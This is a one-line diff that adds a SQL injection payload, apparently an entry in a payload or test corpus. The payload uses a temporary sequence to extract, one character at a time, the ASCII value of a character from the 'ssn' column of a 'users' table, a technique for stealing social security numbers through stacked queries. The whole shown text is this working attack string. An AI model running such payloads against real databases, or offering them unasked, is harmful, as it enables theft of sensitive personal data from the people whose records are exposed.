@@ -1,0 +1,1 @@
+CREATE TEMP SEQUENCE sq; SELECT setval('sq', (SELECT ascii(substr(ssn,7,1)) FROM public.users WHERE id=1)); SELECT last_value FROM sq
